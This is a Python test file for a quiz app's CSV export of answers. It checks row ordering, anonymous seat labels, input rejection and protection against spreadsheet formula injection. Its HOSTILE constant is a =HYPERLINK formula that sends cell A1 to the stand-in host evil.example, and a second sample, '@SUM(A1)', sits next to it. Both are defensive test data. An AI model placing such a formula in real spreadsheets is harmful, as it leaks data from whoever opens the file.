"""A room's answers as CSV (cevis_app/text/answers_csv.py): contents, seats, spreadsheet safety.

The CSV is read back with Python's csv module; expected rows are written out by hand.
"""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cevis import InputError
from cevis_app.text.answers_csv import FORMULA_STARTS
from cevis_app.text.answers_csv import HEADER
from cevis_app.text.answers_csv import answers_csv
from cevis_app.text.answers_csv import spreadsheet_text

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
QUESTIONS = [
    {"id": "q1", "kind": "choice", "text": "Which way does p(cat) go?",
     "choices": ["up", HOSTILE, "@SUM(A1)"], "truth": 0},
    {"id": "q2", "kind": "estimate", "text": "-What is the loss?", "low": -5.0, "high": 5.0, "truth": 1.772},
    {"id": "q3", "kind": "estimate", "text": "A guess, no truth", "low": 0.0, "high": 1.0, "truth": None},
]
T0 = 1_765_000_000  # 2025-12-06T05:46:40Z


def rows(text):
    return list(csv.reader(io.StringIO(text)))


def test_every_answer_is_one_row_by_question_then_time_with_anonymous_seats():
    answers = [("q2", "id-bob", -1.5, T0 + 70), ("q1", "id-bob", 1, T0 + 5), ("q1", "id-ann", 0, T0 + 3),
               ("q2", "id-ann", 1.8, T0 + 60), ("q3", "id-cem", 0.25, T0 + 90), ("q1", "id-cem", 2, T0 + 9)]
    table = rows(answers_csv(QUESTIONS, answers))
    assert table[0] == list(HEADER)
    assert table[1:] == [
        ["1", "Which way does p(cat) go?", "choice", "up", "1", "up", "yes",
         "2025-12-06T05:46:43+00:00", "S1"],
        ["1", "Which way does p(cat) go?", "choice", "'" + HOSTILE, "2", "up", "no",
         "2025-12-06T05:46:45+00:00", "S2"],
        ["1", "Which way does p(cat) go?", "choice", "'@SUM(A1)", "3", "up", "no",
         "2025-12-06T05:46:49+00:00", "S3"],
        ["2", "'-What is the loss?", "estimate", "1.8", "", "1.772", "", "2025-12-06T05:47:40+00:00", "S1"],
        ["2", "'-What is the loss?", "estimate", "-1.5", "", "1.772", "", "2025-12-06T05:47:50+00:00", "S2"],
        ["3", "A guess, no truth", "estimate", "0.25", "", "", "", "2025-12-06T05:48:10+00:00", "S3"],
    ]


def test_seats_follow_the_first_answer_in_time_and_ids_never_appear():
    answers = [("q2", "id-zed", 0.5, T0 + 9), ("q1", "id-zed", 0, T0), ("q1", "id-amy", 1, T0)]
    text = answers_csv(QUESTIONS, answers)
    assert "id-zed" not in text and "id-amy" not in text
    assert [r[-1] for r in rows(text)[1:]] == ["S1", "S2", "S1"]


def test_no_text_cell_can_start_a_formula_and_every_cell_is_quoted():
    answers = [("q1", "a", 1, T0), ("q1", "b", 2, T0), ("q2", "c", -4.25, T0)]
    text = answers_csv(QUESTIONS, answers)
    for line in text.splitlines():
        assert line.startswith('"') and line.endswith('"')
    for row in rows(text)[1:]:
        for cell in row:
            if cell[:1] in FORMULA_STARTS:  # only a number the app wrote may start with '-'
                float(cell)


def test_an_empty_session_is_the_header_alone():
    assert rows(answers_csv(QUESTIONS, [])) == [list(HEADER)]


@pytest.mark.parametrize("answer", [("q9", "a", 0, T0), ("q1", "a", 3, T0), ("q1", "a", "0", T0),
                                    ("q2", "a", float("nan"), T0), ("q2", "a", True, T0)])
def test_an_answer_that_fits_no_question_is_refused_with_a_message(answer):
    with pytest.raises(InputError, match="answers_csv"):
        answers_csv(QUESTIONS, [answer])


@given(st.text(max_size=40))
def test_spreadsheet_text_keeps_the_text_and_starts_no_formula(text):
    safe = spreadsheet_text(text)
    assert safe[:1] not in FORMULA_STARTS
    assert safe.lstrip(" ")[:1] not in FORMULA_STARTS or safe.startswith("'")
    assert safe in (text, "'" + text)
